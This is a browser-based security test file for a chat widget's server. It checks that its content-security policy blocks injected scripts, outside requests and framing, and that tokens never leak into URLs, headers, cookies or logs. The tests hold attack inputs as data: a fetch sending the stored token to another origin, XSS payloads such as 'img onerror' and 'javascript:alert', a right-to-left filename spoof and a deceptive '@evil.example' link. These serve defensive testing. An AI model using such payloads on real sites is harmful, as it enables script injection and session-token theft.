// SPDX-License-Identifier: GPL-3.0-or-later
// What the page may do in a browser that an attacker writes into: nothing but its own files runs, nothing leaves for elsewhere, no
// cookie, and the token stands in no address, no Referer and no log.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, afterEach, before, test } from 'node:test';
import { Agent } from '../lib/agent.js';
import { customer, launch } from '../lib/browser.js';
import { Hub } from '../lib/hub.js';
import { png } from '../lib/png.js';

let browser;
let hub;
let agent;
let elsewhere; // another origin, which notes what reaches it
let visitor;
let seen; // every request of the visitor's browser: address and headers

before(async () => {
  browser = await launch();
  elsewhere = createServer((request, response) => {
    elsewhere.asked.push(request.url);
    response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' }).end(elsewhere.page ?? '');
  });
  elsewhere.asked = [];
  elsewhere.origin = await new Promise((resolve) => elsewhere.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${elsewhere.address().port}`)));
  hub = new Hub();
  hub.run('seed-demo');
  await hub.start();
  agent = await new Agent(hub.url).signIn('lin', 'correct horse battery');
  await agent.connect();
});
after(async () => {
  agent?.close();
  await browser?.close();
  await hub?.end();
  elsewhere.closeAllConnections();
  elsewhere.close();
});
afterEach(async () => {
  await visitor?.context.close();
  visitor = null;
});

async function visit() {
  visitor = await customer(browser, {});
  seen = [];
  visitor.context.on('request', (request) => seen.push({ url: request.url(), headers: request.headers() }));
  visitor.page.on('websocket', (socket) => seen.push({ url: socket.url(), headers: {} }));
  await visitor.page.goto(`${hub.url}/chat`);
  await visitor.page.locator('.chat[data-link=live]').waitFor();
  return visitor.page;
}

const policyOf = async (path) => {
  const response = await fetch(hub.url + path);
  const policy = response.headers.get('content-security-policy');
  return Object.fromEntries(policy.split(';').map((part) => part.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
};

test('the policy names our own files and nothing else', async () => {
  const link = (await (await fetch(`${hub.url}/api/v1/hub`)).json()).link;
  const chat = await policyOf('/chat');
  assert.deepEqual(chat['default-src'], ["'none'"]);
  assert.deepEqual(chat['script-src'], ["'self'"]);
  assert.deepEqual(chat['style-src'], ["'self'"]);
  assert.deepEqual(chat['img-src'], ["'self'", 'blob:']);
  assert.deepEqual(chat['connect-src'], ["'self'", new URL(link).origin === 'null' ? link.replace(/\/desk$/, '') : new URL(link).origin]);
  assert.deepEqual(chat['frame-ancestors'], ["'self'"]); // no origin is allowed in this hub's configuration
  assert.deepEqual(chat['base-uri'], ["'none'"]);
  assert.deepEqual(chat['form-action'], ["'none'"]);
  assert.deepEqual(chat['require-trusted-types-for'], ["'script'"]);
  assert.deepEqual((await policyOf('/'))['frame-ancestors'], ["'none'"]);
  for (const path of ['/assets/main.js', '/widget.js', '/api/v1/hub', '/nothing-here'])
    assert.ok((await policyOf(path)).sandbox, path);
});

test('no markup of ours holds a script, a style or a handler', async () => {
  for (const path of ['/', '/chat']) {
    const html = await (await fetch(hub.url + path)).text();
    assert.doesNotMatch(html, /<script(?![^>]*\ssrc=)[^>]*>/i, path);
    assert.doesNotMatch(html, /<style|\sstyle=|\son[a-z]+=|javascript:/i, path);
    assert.doesNotMatch(html, /https?:\/\/(?!desk\.example)/, path); // nothing of third parties
  }
});

test('what gets into the page does not run, and gets nothing out', async () => {
  const page = await visit();
  const tried = await page.evaluate(async (other) => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const caught = async (what) => {
      try {
        await what();
        return 'ran';
      } catch {
        return 'refused';
      }
    };
    window.ran = [];
    const results = {
      html: await caught(() => {
        document.body.innerHTML += '<img src=x onerror="window.ran.push(1)">';
      }),
      text: await caught(() => {
        const script = document.createElement('script');
        script.textContent = 'window.ran.push(2)';
        document.body.append(script);
      }),
      // In a turn of its own: what is evaluated from outside may evaluate.
      eval: await caught(() => new Promise((resolve, reject) => {
        setTimeout(() => {
          try {
            resolve(Reflect.construct(Function, ['window.ran.push(3)'])());
          } catch (error) {
            reject(error);
          }
        });
      })),
      timer: await caught(() => setTimeout('window.ran.push(4)', 0)),
      fetch: await caught(() => fetch(`${other}/stolen?${localStorage.getItem('liaison.token')}`)),
      socket: await caught(() => new Promise((resolve, reject) => {
        const socket = new WebSocket(other.replace('http', 'ws'));
        socket.onopen = resolve;
        socket.onerror = reject;
      })),
      picture: await caught(() => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = reject;
        image.src = `${other}/pixel.png`;
      })),
      frame: await caught(() => {
        const frame = document.createElement('iframe');
        frame.src = other;
        document.body.append(frame);
      }),
      worker: await caught(() => new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['self.postMessage(1)'])));
        worker.onmessage = resolve;
        worker.onerror = reject;
      })),
    };
    document.body.append(Object.assign(document.createElement('a'), { textContent: 'x' }));
    const base = document.createElement('base');
    base.href = other;
    document.head.append(base);
    await fetch('/healthz'); // a turn of the network: whatever was to leave has left
    return { results, ran: window.ran, base: document.baseURI, violations };
  }, elsewhere.origin);
  assert.deepEqual(tried.ran, []);
  for (const what of ['html', 'text', 'eval', 'fetch', 'socket', 'picture', 'worker']) assert.equal(tried.results[what], 'refused', what);
  assert.ok(!tried.base.startsWith(elsewhere.origin));
  for (const directive of ['connect-src', 'img-src']) assert.ok(tried.violations.some((v) => v.startsWith(directive)), `${directive}: ${tried.violations}`);
  assert.deepEqual(elsewhere.asked, []);
});

test('what a stranger writes is text', async () => {
  const page = await visit();
  await page.locator('textarea').fill('<b>hello</b>');
  await page.locator('textarea').press('Enter');
  const conv = await until(() => [...agent.convs.values()].find((c) => c.agent === agent.agent.id && (c.tail ?? []).some((m) => m.text === '<b>hello</b>')));
  await agent.say(conv.id, '<img src=x onerror=alert(1)> javascript:alert(2) \u202Etxt.exe https://good.example@evil.example/ https://shop.example/x end');
  await page.getByText('javascript:alert(2)').waitFor();
  const links = await page.locator('li.msg.theirs a').evaluateAll((found) => found.map((a) => ({ href: a.href, rel: a.rel, target: a.target })));
  assert.deepEqual(links.map((link) => link.href), ['https://shop.example/x']); // one that hides its host behind another's name is none
  for (const link of links) {
    assert.match(link.href, /^(https?|mailto):/);
    assert.match(link.rel, /noopener/);
    assert.match(link.rel, /noreferrer/);
  }
  assert.equal(await page.locator('li.msg img[src=x], li.msg b').count(), 0);
});

test('no cookie, and the token only where it belongs', async () => {
  const page = await visit();
  const token = await page.evaluate(() => localStorage.getItem('liaison.token'));
  assert.ok(token.length >= 32);
  await page.locator('textarea').fill('a word and a picture');
  await page.locator('textarea').press('Enter');
  const conv = await until(() => [...agent.convs.values()].find((c) => c.agent === agent.agent.id && (c.tail ?? []).some((m) => m.text === 'a word and a picture')));
  await page.locator('input[type=file]').setInputFiles([{ name: 'a.png', mimeType: 'image/png', buffer: png(900, 600) }]);
  await page.locator('li.msg.mine .picture img').waitFor();
  await agent.sendFile(conv.id, png(500, 700, [170, 120, 80]), 'image/png', 'part.png');
  await page.locator('li.msg.theirs .picture img').waitFor();
  await page.reload();
  await page.locator('.chat[data-link=live]').waitFor();
  assert.ok(seen.some(({ url }) => url.startsWith('ws')) && seen.some(({ url }) => url.includes('/api/v1/files/')));
  for (const { url, headers } of seen) {
    assert.ok(!url.includes(token), url);
    assert.ok(!url.startsWith('blob:') || !url.includes('token'), url);
    assert.equal(headers.cookie, undefined, url);
    assert.ok(!headers.referer, url);
    for (const [name, value] of Object.entries(headers)) assert.ok(name === 'authorization' || !value.includes(token), `${name} of ${url}`);
  }
  assert.deepEqual(await visitor.context.cookies(), []);
  assert.equal(await page.evaluate(() => document.cookie), '');
  for (const path of ['/', '/chat', '/widget.js', '/api/v1/hub']) assert.equal((await fetch(hub.url + path)).headers.get('set-cookie'), null);
  for (const secret of [token, agent.token, 'correct horse battery', 'shared with the site']) assert.ok(!hub.errors.includes(secret), 'the hub’s log');
});

test('an address that carries a token opens nothing', async () => {
  const token = agent.token;
  for (const path of [`/api/v1/files/abcdefgh?token=${token}`, `/metrics?token=${token}&access_token=${token}`]) {
    const response = await fetch(hub.url + path, { headers: { Cookie: `token=${token}`, 'X-Forwarded-For': '192.0.2.1' } });
    assert.ok(path.startsWith('/metrics') ? response.ok : response.status === 401); // metrics: because we are this machine
  }
  assert.ok(!hub.errors.includes(token));
});

test('the shop’s own page cannot be framed, the chat by nobody who is not named', async () => {
  elsewhere.page = `<!DOCTYPE html><iframe src="${hub.url}/"></iframe><iframe src="${hub.url}/chat"></iframe>`;
  const context = await browser.newContext();
  const page = await context.newPage();
  const refusals = [];
  page.on('console', (message) => message.text().includes('frame-ancestors') && refusals.push(message.text()));
  await page.goto(elsewhere.origin);
  await until(() => refusals.length >= 2);
  for (const frame of page.frames().slice(1)) assert.ok(!frame.url().startsWith(hub.url) || (await frame.locator('textarea, header').count()) === 0);
  await context.close();
});

async function until(what) {
  for (let i = 0; i < 600; ++i) {
    const found = await what();
    if (found) return found;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  return assert.fail('not in time');
}
